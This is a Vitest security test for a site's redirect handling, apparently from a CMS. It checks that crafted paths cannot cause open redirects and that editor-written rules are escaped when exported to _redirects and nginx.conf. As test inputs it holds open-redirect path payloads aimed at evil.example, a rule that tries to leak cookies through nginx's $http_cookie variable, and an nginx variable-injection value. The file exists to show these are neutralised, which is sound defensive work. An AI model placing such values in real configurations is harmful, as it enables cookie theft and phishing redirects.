import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases } from '../../core/testing/databases.ts';
import { sharedReader } from '../../delivery/reader/index.ts';
import { buildSite } from '../export/build-site.ts';
import { siteFixture } from '../testing/site-fixture.ts';
import { openSite, type SiteHarness } from '../testing/site-harness.ts';

// Every redirect of the site goes to a path on its own host (safe-location.ts), through the real app; and the
// same redirects table answers the same on the live site and in the exported host files (host-files.ts).

/** Redirects an editor may write (the space file's rules), with the characters the host files give meaning to. */
const tricky = [
  { fromPath: '/go/*', toPath: '/about', status: 301 },
  { fromPath: '/a:b', toPath: '/about', status: 302 },
  { fromPath: '/hash#x', toPath: '/about', status: 301 },
  { fromPath: '/dollar$x', toPath: '/about', status: 301 },
  { fromPath: '/back\\slash', toPath: '/about', status: 301 },
  { fromPath: '/cookie', toPath: 'https://evil.example/?c=$http_cookie', status: 302 },
  { fromPath: '/uri', toPath: '/about$uri;{x}', status: 301 },
  { fromPath: '/sneaky', toPath: '/.//evil.example', status: 301 },
  { fromPath: '/en/shadowed', toPath: '/about', status: 301 },
].map((r) => ({ locale: 'en', contentId: null, ...r }));

function space(): Record<string, unknown> {
  const s = siteFixture() as { redirects: unknown[] };
  s.redirects.push(...tricky);
  return s;
}

/** Where a browser on http://fixture.test goes for an answer's Location (null: no redirect). */
const landsOn = (res: Response) => {
  const location = res.headers.get('location');
  return location === null ? null : new URL(location, 'http://fixture.test/x').host;
};

describe.each(testDatabases())('redirects of the site on $kind', ({ open }) => {
  let site: SiteHarness;
  beforeAll(async () => {
    site = await openSite(open, { space: space() });
  });
  afterAll(() => site?.drop());

  it('never sends a visitor to another host for a path that looks like one, nor caches such an answer publicly', async () => {
    const paths = [
      '//evil.example/',
      '///evil.example/',
      '//evil.example',
      '/en//evil.example',
      '/en//evil.example/',
      '/en///evil.example',
      '/\\evil.example/',
      '/\\/evil.example/',
      '/en/\\evil.example',
      '/%2F%2Fevil.example/',
      '/%2f%2fevil.example',
      '/%5Cevil/',
      '/en/%5C%5Cevil',
      '/\t/evil.example/',
      '/\n/evil.example/',
      '/.//evil/',
      '/en/.//evil',
      '/./%2F/evil/',
      '/@evil.example/',
      '/:evil.example/',
    ];
    for (const path of paths) {
      const res = await site.get(`http://fixture.test${path}`);
      const what = `${JSON.stringify(path)} → ${res.status} ${res.headers.get('location')}`;
      expect([301, 302, 404], what).toContain(res.status);
      if (res.status === 404) {
        expect(res.headers.get('location'), what).toBeNull();
        continue;
      }
      expect(landsOn(res), what).toBe('fixture.test');
      expect(res.headers.get('location'), what).toMatch(/^\/(?![/\\])/);
    }
    // The ones the report showed: no redirect at all, a 404 (the not-found page may be cached, not a redirect).
    for (const path of ['//evil.example/', '///evil.example/', '/en//evil.example']) {
      const res = await site.get(`http://fixture.test${path}`);
      expect(res.status, path).toBe(404);
      expect(res.headers.get('location'), path).toBeNull();
    }
  });

  it('keeps the canonical redirects that stay on the host', async () => {
    const slash = await site.get('http://fixture.test/about/?q=1');
    expect([slash.status, slash.headers.get('location')]).toEqual([301, '/about?q=1']);
    const prefix = await site.get('http://fixture.test/en/about');
    expect([prefix.status, prefix.headers.get('location')]).toEqual([301, '/about']);
    const encoded = await site.get('http://fixture.test/%2F%2Fevil.example/');
    expect([encoded.status, encoded.headers.get('location')]).toEqual([301, '/%2F%2Fevil.example']);
    // A document's path with an empty segment is no document: one address per page.
    expect((await site.get('http://fixture.test//about')).status).toBe(404);
    expect((await site.get('http://fixture.test/about')).status).toBe(200);
  });

  it('answers the same redirects table the same way live and in the exported _redirects and nginx.conf', async () => {
    const live = async (path: string) => {
      const res = await site.get(`http://fixture.test${path}?q=1`);
      return `${res.status} ${res.headers.get('location')}`;
    };
    // `fromPath` is literal on the site: `*` and `:` are characters, a `#` or `\` comes encoded in a request.
    expect(await live('/go/*')).toBe('301 /about?q=1');
    expect(await live('/go/%2A')).toBe('301 /about?q=1');
    expect(await live('/go/anything')).toBe('404 null');
    expect(await live('/a:b')).toBe('302 /about?q=1');
    expect(await live('/hash%23x')).toBe('301 /about?q=1');
    expect(await live('/dollar$x')).toBe('301 /about?q=1');
    expect(await live('/back%5Cslash')).toBe('301 /about?q=1');
    // An absolute address an editor wrote stays theirs (its own query wins); a relative one stays on the host.
    expect(await live('/cookie')).toBe('302 https://evil.example/?c=$http_cookie');
    expect(await live('/uri')).toBe('301 /about$uri;%7Bx%7D?q=1');
    expect(await live('/sneaky')).toBe('404 null');
    // The locale step runs first: the table's `/en/shadowed` is never reached on an unpinned host.
    expect(await live('/en/shadowed')).toBe('301 /shadowed?q=1');

    const out = join(mkdtempSync(join(tmpdir(), 'verso-redirects-')), 'site');
    try {
      const reader = sharedReader({ db: site.db, mediaSecret: () => 'unused-here', blockDesigns: true });
      await buildSite(
        { db: site.db, cache: site.cache, reader, fetch: async (req) => site.app.fetch(req) },
        { space: 'fixture', out, host: 'fixture.test', baseUrl: 'http://fixture.test' },
      );
      const redirects = readFileSync(join(out, '_redirects'), 'utf8').split('\n');
      const space = redirects.filter((l) => /^\/(?!en\b|de\/\*)/.test(l));
      // Percent-encoded where the format gives a character meaning (splat, placeholder, comment): literal paths.
      expect(space).toEqual(
        expect.arrayContaining([
          '/go/%2A /about 301',
          '/a%3Ab /about 302',
          '/hash%23x /about 301',
          '/dollar$x /about 301',
          '/back%5Cslash /about 301',
          '/cookie https://evil.example/?c=$http_cookie 302',
          '/uri /about$uri;%7Bx%7D 301',
        ]),
      );
      for (const line of space) expect(line.split(' ')[0], line).not.toMatch(/[*#\s]|\/:/);
      expect(redirects.join('\n')).not.toMatch(/sneaky|shadowed| \/[/\\]/);
      expect(redirects).toEqual(expect.arrayContaining(['/en / 301', '/en/* /:splat 301']));

      const nginx = readFileSync(join(out, 'nginx.conf'), 'utf8');
      const returnOf = (from: string) =>
        new RegExp(
          `location = ${JSON.stringify(from).replace(/[\\^$.*+?()[\]{}|]/g, '\\$&')} \\{\\n(?: {4}add_header .*\\n)+ {4}(return .*);`,
        ).exec(nginx)?.[1];
      // Exact locations (no wildcard), compared by nginx with the decoded path as the site compares it.
      expect(returnOf('/go/*')).toBe('return 301 "/about$is_args$args"');
      expect(returnOf('/a:b')).toBe('return 302 "/about$is_args$args"');
      expect(returnOf('/hash#x')).toBe('return 301 "/about$is_args$args"');
      expect(returnOf('/dollar$x')).toBe('return 301 "/about$is_args$args"');
      expect(returnOf('/back\\slash')).toBe('return 301 "/about$is_args$args"');
      // No `$` of the editor's reaches nginx's variables: percent-encoded, as the URL means the same.
      expect(returnOf('/cookie')).toBe('return 302 "https://evil.example/?c=%24http_cookie"');
      expect(returnOf('/uri')).toBe('return 301 "/about%24uri%3B%7Bx%7D$is_args$args"');
      expect(nginx).not.toContain('$http_cookie');
      expect(nginx).not.toContain('$uri;');
      expect(nginx).not.toMatch(/sneaky|shadowed|location ~/);
    } finally {
      rmSync(join(out, '..'), { recursive: true, force: true });
    }
  }, 60_000);
});
